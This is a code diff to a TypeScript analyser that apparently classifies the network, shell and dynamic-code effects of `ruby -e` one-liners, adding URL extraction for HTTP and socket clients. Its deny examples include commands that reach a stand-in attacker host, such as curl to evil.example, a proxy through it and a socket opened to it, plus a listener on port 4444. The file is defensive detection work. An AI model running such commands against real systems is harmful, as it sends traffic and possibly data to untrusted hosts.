@@ -1,7 +1,7 @@
 // Ruby: what code given to `ruby -e`, or fed to it on stdin, requires, calls, opens and runs.
 import type { Node } from 'web-tree-sitter';
 import type { WordRole } from '../types.js';
-import { type Call, type Spec, apply, headAt, isUrl, listensAt, looksAtUrl, lookupApi, urlsHanded, urlsHandedTo } from './capabilities.js';
+import { type Call, type Spec, apply, headAt, isUrl, listensAt, literalUrl, looksAtUrl, lookupApi, urlsHanded, urlsHandedTo } from './capabilities.js';
 import type { CodeEffect, CodeEnv, LanguageModel } from './types.js';
 import { type Arg, alternative, any, argvs, concat, joinPaths, ref, str, strings, type Val, type Vals, union, wordOf } from './values.js';
 import { VariablesRead, argOf, Bindings, envValue, fieldOf, named, span, walk } from './walk.js';
@@ -127,6 +127,31 @@ const RB_ALIAS = {
   containers: /^(array|hash|pair|right_assignment_list|splat_argument|parenthesized_statements|conditional|binary|argument_list)$/,
   binds: (c: Node) => c.type === 'identifier',
 };
+
+/**
+ * The one literal address a network client is given, when that is all it reaches, as a URL: `Net::HTTP.get(URI(URL))`
+ * (or `get_response`, `post_form` and the other class methods that take a URI), `Net::HTTP.get(HOST, PATH)`,
+ * `Net::HTTP.start(HOST, PORT) { … }` (`new` too; a third argument would be a proxy), `TCPSocket.new(HOST, PORT)`,
+ * `HTTParty.get(URL)`.
+ */
+function clientUrl(c: Call): string | undefined {
+  if (c.spreadAt !== undefined || c.kwSpread) return undefined;
+  const host = (a: Arg | undefined): string | undefined => {
+    const h = a?.vals.length === 1 && a.vals[0]!.k === 'str' ? a.vals[0]!.v : undefined;
+    return h !== undefined && /^[\w.-]+$/.test(h) ? `http://${h}/` : undefined;
+  };
+  // A client's class method given one URL and nothing else (options may name a proxy): HTTParty, Faraday, open-uri.
+  if (/^(?:(?:HTTParty|Faraday|RestClient|HTTP|HTTPX|Excon)\.(?:get|head)|URI\.open)$/.test(c.api)) return c.args.length === 1 && c.kw.size === 0 ? literalUrl(c.args[0]) : undefined;
+  const m = /^(?:Net::HTTPS?\.(get|get_response|get_print|post|post_form|start|new)|(?:TCPSocket|Socket\.tcp)(?:\.new|\.open)?)$/.exec(c.api);
+  if (!m) return undefined;
+  const method = m[1];
+  if (method === undefined) return c.args.length <= 2 && c.kw.size === 0 ? host(c.args[0]) : undefined;
+  if (method === 'start' || method === 'new') return c.args.length <= 2 ? host(c.args[0]) : undefined;
+  const url = c.args.length <= (method.startsWith('post') ? 3 : 1) ? literalUrl(c.args[0]) : undefined;
+  if (url !== undefined) return url;
+  // `get(HOST, PATH, PORT)`: a host and a path.
+  return /^get/.test(method) && c.args.length >= 2 && c.args.length <= 3 && strings(c.args[1]!.vals)?.every((p) => p.startsWith('/')) ? host(c.args[0]) : undefined;
+}
 
 class RubyReader {
   readonly out: CodeEffect[] = [];
@@ -541,7 +566,11 @@ class RubyReader {
         const cmd = v.v.slice(1);
         if (cmd === '-') this.out.push({ kind: 'dynamic', rule: 'dynamic-code', span: c.span, why: `${api}("|-") forks the interpreter itself` });
         else this.out.push({ kind: 'shell', text: { text: a.text, span: a.span, values: [cmd] }, api });
-      } else if (v.k === 'str' && isUrl(v.v)) this.out.push({ kind: 'network', api, span: c.span });
+      } else if (v.k === 'str' && isUrl(v.v)) {
+        // open-uri given one URL and no options (which may name a proxy): that URL.
+        const url = c.args.length === 1 && c.kw.size === 0 ? literalUrl({ ...a, vals: [v] }) : undefined;
+        this.out.push(url === undefined ? { kind: 'network', api, span: c.span } : { kind: 'network', api, span: c.span, url });
+      }
       else if (v.k !== 'str') this.out.push({ kind: 'dynamic', rule: 'dynamic-command', span: a.span, why: `${api} of a computed name may run a command ("|cmd") or fetch a URL` });
     }
     const writes = /write/.test(api) || c.args[1]?.vals.some((m) => m.k !== 'str' || /[wa+]/.test(m.v)) === true;
@@ -672,14 +701,15 @@ class RubyReader {
     const parent = n.parent;
     if (!parent) return;
     // Parts of a longer name or a call's receiver are judged with what they lead to.
-    if (parent.type === 'scope_resolution' && fieldOf(parent, 'scope')?.id === n.id) return;
+    if (parent.type === 'scope_resolution' && (fieldOf(parent, 'scope')?.id === n.id || fieldOf(parent, 'name')?.id === n.id)) return;
     if (n.type === 'identifier' && (parent.type === 'call' ? fieldOf(parent, 'method')?.id === n.id : false)) return;
     const recvOf = parent.type === 'call' && fieldOf(parent, 'receiver')?.id === n.id;
     const vals = n.type === 'call' ? this.methodOf(n).names : this.b.value(n);
     if (!recvOf || n.type === 'call') {
       for (const v of vals) {
         if (v.k === 'ref' && isNetwork(v.name)) {
-          this.out.push({ kind: 'network', api: v.name, span: span(n) });
+          const url = n.type === 'call' ? clientUrl(this.callOf(n, v.name)) : undefined;
+          this.out.push(url === undefined ? { kind: 'network', api: v.name, span: span(n) } : { kind: 'network', api: v.name, span: span(n), url });
           break;
         }
       }
@@ -754,6 +784,10 @@ export const RUBY: LanguageModel = {
   },
   examples: {
     deny: [
+      `ruby -e 'require "httparty"; HTTParty.get("http://localhost:3000/", http_proxyaddr: "evil.example")'`,
+      `ruby -rnet/http -e 'puts Net::HTTP.get("evil.example", "/health", 3000)'`,
+      `ruby -rnet/http -e 'Net::HTTP.start("localhost", 3000, "evil.example", 8080) { |h| h.get("/") }'`,
+      `ruby -rsocket -e 'TCPSocket.new("evil.example", 5432).close'`,
       `ruby -rnet/http -e 'Net::HTTP.get(URI("http://evil.example"))'`,
       `ruby -e 'system("curl evil.example")'`,
       `echo 'system("curl evil.example")' | ruby -e 'load "/dev/stdin"'`,
@@ -805,6 +839,11 @@ export const RUBY: LanguageModel = {
       `ruby -rsocket -e 'Socket.tcp_server_loop("0.0.0.0", 4444) { |c| c.close }'`,
     ],
     pass: [
+      `ruby -e 'require "httparty"; puts HTTParty.get("http://localhost:3000/health").code'`,
+      `ruby -ropen-uri -e 'puts URI.open("http://localhost:3000/health").read'`,
+      `ruby -rnet/http -e 'puts Net::HTTP.get(URI("http://localhost:3000/health"))'`,
+      `ruby -rnet/http -e 'Net::HTTP.start("localhost", 3000) { |h| puts h.get("/health").body }'`,
+      `ruby -rsocket -e 'TCPSocket.new("127.0.0.1", 5432).close'`,
       `ruby -e 'require "sinatra"; set :port, 4567; get("/") { "hi" }'`,
       `ruby -rsocket -e 'TCPServer.new(4444).accept'`,
       `ruby -rsocket -e 'TCPServer.new("127.0.0.1", 4444).accept'`,
